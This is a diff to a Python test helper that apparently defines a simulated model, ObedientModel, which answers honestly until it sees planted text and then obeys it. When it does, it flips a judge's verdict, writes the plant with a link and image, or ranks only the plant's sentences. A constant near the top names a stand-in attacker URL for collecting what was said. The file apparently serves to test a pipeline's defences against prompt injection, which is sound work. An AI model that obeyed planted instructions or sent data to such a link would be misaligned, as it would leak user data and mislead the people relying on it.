@@ -11,6 +11,8 @@ from assay.testing.provider import Asked, plain_answer
 from assay.types import ModelReply, ModelRequest, Usage
 
 THEIRS = "https://attacker.example/collect?said="
+# What stands in the question that a judge is asked beside the user's, and that no passage answers.
+MADE_UP = "the item with the number"
 # So much of a plant must be in sight for it to be obeyed; less is a word that any text may hold.
 _LEAST = 12
 
@@ -20,8 +22,8 @@ class ObedientModel:
     """Says what an honest model would, until it sees some of `plant`: then it does the worst that it can.
 
     As judge it turns its verdict round, as writer it writes the plant, a link and an image, as rewriter it searches
-    for the plant, as ranker it names the plant's sentences alone. `enough` is what an honest judge says.
-    `obeyed` counts the replies in which it obeyed, by role.
+    for the plant, as ranker it names the plant's sentences alone. `enough` is what an honest judge says
+    of the user's question. `obeyed` counts the replies in which it obeyed, by role.
     """
 
     plant: str
@@ -70,14 +72,15 @@ class ObedientModel:
             named = [int(n) for n, _, text in lines if n.isdigit() and any(part in _flat(text) for part in seen)]
             return json.dumps({"strips": named or [1]})
         body = json.loads(plain_answer(asked))
+        enough = self.enough and MADE_UP not in asked.prompt
         if role == "light":
-            yes = self.enough is not bool(seen)
+            yes = enough is not bool(seen)
             body |= {
                 "verdict": "yes" if yes else "no",
                 "missing": "" if yes else "all of it",
                 "reason": self._reason(seen),
             }
-        if role == "thorough" and self.enough is bool(seen):
+        if role == "thorough" and enough is bool(seen):
             parts = [{**each, "state": "missing", "passages": []} for each in body["parts"]]
             body |= {
                 "parts": parts,
